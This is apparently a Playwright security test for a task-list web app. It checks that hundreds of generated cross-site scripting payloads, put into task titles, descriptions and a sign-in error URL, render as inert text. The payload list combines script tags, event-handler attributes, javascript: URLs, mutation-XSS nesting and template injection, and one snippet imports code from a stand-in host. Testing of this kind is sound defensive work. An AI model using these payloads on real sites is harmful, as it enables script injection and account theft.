import type { Page } from '@playwright/test'
import { mountedDevice } from './mountedDevice.ts'
import { expect, test } from './mountedTest.ts'
import { test as serverTest } from './testServer.ts'
import { testUserOn } from './testUser.ts'

// Code that runs if text is interpreted as markup, as a URL or as a script. Each one is observable.
const scripts = [
  'alert(1)',
  'confirm`1`',
  "window['al'+'ert'](1)",
  'top.hit=1',
  'import("//evil.test")',
]
const shapes: ((script: string) => string)[] = [
  (script) => `<script>${script}</script>`,
  (script) => `<img src=x onerror=${script}>`,
  (script) => `<svg onload=${script}>`,
  (script) => `<svg><script>${script}</script></svg>`,
  (script) => `"><img src=x onerror=${script}>`,
  (script) => `'><svg/onload=${script}>`,
  (script) => `</title><script>${script}</script>`,
  (script) => `</textarea><script>${script}</script>`,
  (script) => `<iframe srcdoc="<script>${script}</script>">`,
  (script) => `<iframe src="javascript:${script}">`,
  (script) => `<a href="javascript:${script}">x</a>`,
  (script) => `<details open ontoggle=${script}>`,
  (script) => `<body onload=${script}>`,
  (script) => `<input autofocus onfocus=${script}>`,
  (script) => `<video><source onerror=${script}>`,
  (script) => `<math><mtext></form><form><mglyph><style></math><img src onerror=${script}>`,
  (script) => `<object data="data:text/html,<script>${script}</script>">`,
  (script) => `<link rel=stylesheet href="data:text/css,*{background:url(javascript:${script})}">`,
  (script) => `<base href="javascript:${script}//">`,
  (script) => `<meta http-equiv=refresh content="0;url=javascript:${script}">`,
  (script) => `<template><script>${script}</script></template>`,
  (script) => `<noscript><p title="</noscript><img src=x onerror=${script}>">`,
  (script) => `<style>@import 'javascript:${script}'</style>`,
  (script) => `{{constructor.constructor('${script}')()}}`,
  (script) => `\${${script}}`,
]
const variants: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.toUpperCase().replaceAll('ALERT', 'alert'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replace('<', '<\u0001'),
]
const payloads = shapes.flatMap((shape) =>
  scripts.flatMap((script) => variants.map((variant) => variant(shape(script)))),
)

test(`[T13] ${payloads.length} markup payloads in titles and descriptions are rendered as text`, async ({
  page,
}) => {
  expect(payloads.length).toBeGreaterThanOrEqual(500)
  await mountedDevice(page).addTasks(payloads.map((text) => ({ title: text, description: text })))
  const dialogs = dialogsOf(page)
  await page.evaluate(keepReports)

  // The taller the window, the fewer times the list is laid out.
  await page.setViewportSize({ width: 1280, height: 4_000 })
  await testUserOn(page).opened()
  const seen = new Set(await page.evaluate(scrolledTitles))

  // The windowed list does not render every row while it is scrolled quickly.
  expect(seen.size).toBeGreaterThan(payloads.length / 2)
  expect([...seen].filter((title) => !payloads.includes(title))).toEqual([])
  expect(await reportsOf(page)).toEqual([])
  expect(dialogs).toEqual([])
})

serverTest('[T13] an error description from the URL is not shown', async ({ page }) => {
  const dialogs = dialogsOf(page)
  await page.addInitScript(keepReports)
  const description = shapes.map((shape) => shape('alert(1)')).join('\n')

  await page.goto(`/#error=access_denied&error_description=${encodeURIComponent(description)}`)

  await expect(page.getByRole('alert')).toHaveText(
    'You were not signed in: the sign-in was refused or cancelled.',
  )
  expect(await reportsOf(page)).toEqual([])
  expect(dialogs).toEqual([])
})

/** Dismisses the dialogs of scripts, and answers with what they said. */
function dialogsOf(page: Page): string[] {
  const dialogs: string[] = []
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message())
    void dialog.dismiss()
  })
  return dialogs
}

/** Runs in the page: keeps which scripts ran, and violations of the content security policy. */
function keepReports(): void {
  const reports: string[] = []
  Object.assign(window, { reports })
  addEventListener('securitypolicyviolation', ({ violatedDirective, sample }) => {
    reports.push(`policy: ${violatedDirective} ${sample}`)
  })
  Object.defineProperty(window, 'hit', {
    set: () => reports.push('a script ran'),
    // A mounted page takes it away again.
    configurable: true,
    enumerable: true,
  })
}

const reportsOf = (page: Page) => page.evaluate(() => Reflect.get(window, 'reports'))

/** Runs in the page: the titles of the cards, read while it is scrolled to its end. */
async function scrolledTitles(): Promise<string[]> {
  const titles: string[] = []
  for (let above = -1; scrollY !== above; ) {
    above = scrollY
    for (const heading of document.querySelectorAll('article h3'))
      titles.push(heading.textContent ?? '')
    scrollBy({ top: innerHeight, behavior: 'instant' })
    for (let frames = 0; frames < 2; frames += 1) await new Promise(requestAnimationFrame)
  }
  return titles
}
